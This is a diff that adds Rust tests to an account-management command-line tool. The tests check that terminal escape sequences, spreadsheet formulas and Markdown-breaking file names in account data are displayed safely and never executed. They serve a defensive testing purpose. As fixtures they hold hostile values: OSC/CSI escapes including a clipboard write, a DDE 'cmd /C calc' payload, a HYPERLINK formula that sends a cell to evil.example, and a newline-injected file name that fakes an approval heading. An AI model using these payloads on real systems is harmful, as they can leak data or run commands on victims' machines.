@@ -1,0 +1,224 @@
+//! What reaches a terminal, a spreadsheet or a pull request: control characters shown, never
+//! obeyed; CSV cells that a spreadsheet would run neutralised; file names in Markdown escaped.
+
+use crate::support::{Test, repo};
+
+fn complete() -> String {
+    std::fs::read_to_string(repo().join("tests/fixtures/accounts/complete.toml")).unwrap()
+}
+
+/// The sample account with escape sequences in its name, owner, a contact, a next step and a
+/// competitor: a title change (OSC), a screen clear (CSI), a C1 CSI, DEL and a hyperlink.
+fn hostile() -> String {
+    complete()
+        .replace(
+            "name = \"华东精密制造有限公司\"",
+            "name = \"Acme\\u001B]0;pwned\\u0007\\u001B[2J\u{9b}31m\\u007F\\u001B]8;;http://evil/\\u001B\\\\click\"",
+        )
+        .replace("owner = \"li.wei\"", "owner = \"li\\u001B[8mhidden\"")
+        .replace("name = \"王芳\"", "name = \"王芳\\u001B[1A\\u001B[2K\"")
+        .replace(
+            "next_step = \"Sign the framework agreement\"",
+            "next_step = \"Sign\\u001B]52;c;cHduZWQ=\\u0007 it\"",
+        )
+}
+
+/// The control characters a terminal obeys, other than a line feed.
+fn obeyed(c: char) -> bool {
+    c.is_control() && c != '\n'
+}
+
+#[track_caller]
+fn shown_not_obeyed(out: &crate::support::Outcome, what: &str) {
+    for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+        if let Some(c) = text.chars().find(|c| obeyed(*c)) {
+            panic!("{what}: {stream} holds the raw control character {c:?}:\n{text}");
+        }
+    }
+}
+
+#[test]
+fn control_characters_in_account_data_are_shown_in_every_text_output() {
+    let t = Test::new().file("accounts/complete.toml", &hostile()).deadline(30);
+    for color in ["never", "always"] {
+        for args in [
+            &["list"][..],
+            &["list", "--format", "md"],
+            &["list", "--format", "csv"],
+            &["due", "--within", "30"],
+            &["due", "--format", "md", "--within", "30"],
+            &["gate"],
+            &["gate", "complete"],
+            &["score"],
+            &["score", "--format", "md"],
+            &["score", "--format", "csv"],
+            &["score", "complete", "--explain"],
+            &["report", "visit", "complete", "--date", "2026-11-15"],
+            &["report", "visit", "complete", "--format", "md", "--date", "2026-11-15"],
+            &["report", "negotiation", "complete"],
+            &["report", "negotiation", "complete", "--format", "md"],
+            &["export", "--format", "csv"],
+            &["check"],
+            &["advance", "complete", "--dry-run"],
+            &["show", "complete"],
+            &["show", "complete", "--format", "md"],
+            &["task", "complete", "list"],
+            &["set", "complete", "company.industry=Steel", "--dry-run"],
+            &["stats"],
+            &["stats", "--by", "owner"],
+            &["forecast"],
+            &["forecast", "--format", "md"],
+        ] {
+            let mut all = vec!["--color", color];
+            all.extend_from_slice(args);
+            let out = t.kam(&all);
+            shown_not_obeyed(&out, &all.join(" "));
+        }
+    }
+    let out = t.kam(&["list"]);
+    out.stdout_has("␛]0;pwned␇").stdout_has("\\u{9b}31m");
+}
+
+#[test]
+fn json_escapes_c1_and_del_as_well_as_c0() {
+    let t = Test::new().file("accounts/complete.toml", &hostile());
+    for args in [
+        &["list", "--format", "json"][..],
+        &["score", "--format", "json"],
+        &["gate", "--format", "json"],
+        &["gate", "complete", "--format", "json"],
+        &["due", "--format", "json", "--within", "30"],
+        &["export", "--format", "json"],
+    ] {
+        let out = t.kam(args);
+        out.code(0);
+        assert!(
+            !out.stdout.chars().any(obeyed),
+            "{args:?} holds a raw control character:\n{}",
+            out.stdout
+        );
+        // The escapes stand for the very characters: the data survives the trip.
+        let value: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+        if !args.contains(&"gate") {
+            assert!(value.to_string().contains("\\u001b]0;pwned"), "{args:?}");
+        }
+    }
+    let out = t.kam(&["export", "--format", "json"]);
+    assert!(
+        out.stdout.contains("\\u009b31m") && out.stdout.contains("\\u007f"),
+        "{}",
+        out.stdout
+    );
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() {
+    let text = complete()
+        .replace(
+            "name = \"华东精密制造有限公司\"",
+            "name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")'",
+        )
+        .replace("owner = \"li.wei\"", "owner = \"+cmd|' /C calc'!A0\"")
+        .replace(
+            "industry = \"Precision machining\"",
+            "industry = \"@SUM(1+1)*cmd|' /C calc'!A0\"",
+        )
+        .replace(
+            "main_business = \"Gearboxes for wind turbines\"",
+            "main_business = \"-2+3+cmd|' /C calc'!A0\"",
+        )
+        .replace(
+            "next_step = \"Sign the framework agreement\"",
+            "next_step = \"\\t=1+1\"",
+        );
+    let t = Test::new().file("accounts/complete.toml", &text);
+    let formulas = ["=HYPERLINK", "+cmd|", "@SUM", "-2+3+cmd", "\t=1+1"];
+    for args in [
+        &["export", "--format", "csv"][..],
+        &["list", "--format", "csv"],
+        &["score", "--format", "csv"],
+        &["stats", "--by", "owner", "--format", "csv"],
+    ] {
+        let out = t.kam(args);
+        out.code(0);
+        let mut reader_cells = Vec::new();
+        for line in out.stdout.lines().skip(1) {
+            reader_cells.extend(split_csv(line));
+        }
+        for cell in &reader_cells {
+            assert!(
+                !formulas.iter().any(|f| cell.starts_with(f)),
+                "{args:?}: the cell {cell:?} would run as a formula"
+            );
+        }
+        // Numbers are left alone.
+        assert!(
+            reader_cells.iter().any(|c| c.parse::<f64>().is_ok()),
+            "{args:?}: {reader_cells:?}"
+        );
+        assert!(
+            !reader_cells
+                .iter()
+                .any(|c| c.strip_prefix('\'').is_some_and(|n| n.parse::<f64>().is_ok())),
+            "{args:?}: a number was neutralised: {reader_cells:?}"
+        );
+    }
+    let out = t.kam(&["export", "--format", "csv"]);
+    assert!(out.stdout.contains("'+cmd|' /C calc'!A0"), "{}", out.stdout);
+    let raw = t.kam(&["export", "--format", "csv", "--raw-cells"]);
+    assert!(raw.stdout.contains(",+cmd|' /C calc'!A0,"), "{}", raw.stdout);
+    t.kam(&["list", "--format", "csv", "--raw-cells"])
+        .code(0)
+        .stdout_has(",+cmd|");
+    t.kam(&["score", "--format", "csv", "--raw-cells"])
+        .code(0)
+        .stdout_has(",\"=HYPERLINK");
+}
+
+/// The cells of one CSV line (quotes undone; no line breaks inside cells in these tests).
+fn split_csv(line: &str) -> Vec<String> {
+    let mut cells = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cell.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => cells.push(std::mem::take(&mut cell)),
+            (c, _) => cell.push(c),
+        }
+    }
+    cells.push(cell);
+    cells
+}
+
+#[test]
+fn file_names_in_markdown_diffs_are_escaped_like_data() {
+    let t = Test::new().file("accounts/.gitkeep", "");
+    t.git(&["init", "-q"]);
+    t.git(&["add", "-A"]);
+    t.git(&["commit", "-qm", "start"]);
+    t.write("accounts/a`b.toml", &complete().replace("\"complete\"", "\"a-b\""));
+    t.write(
+        "accounts/x\n# Approved by the sales director\n.toml",
+        &complete().replace("\"complete\"", "\"x\""),
+    );
+    let out = t.kam(&["diff", "--format", "md"]);
+    out.code(0);
+    assert!(
+        !out.stdout.lines().any(|l| l.starts_with("# Approved")),
+        "a file name started a heading:\n{}",
+        out.stdout
+    );
+    assert!(out.stdout.contains("``accounts/a`b.toml``"), "{}", out.stdout);
+    let out = t.kam(&["diff"]);
+    assert!(
+        !out.stdout.lines().any(|l| l.starts_with("# Approved")),
+        "{}",
+        out.stdout
+    );
+}
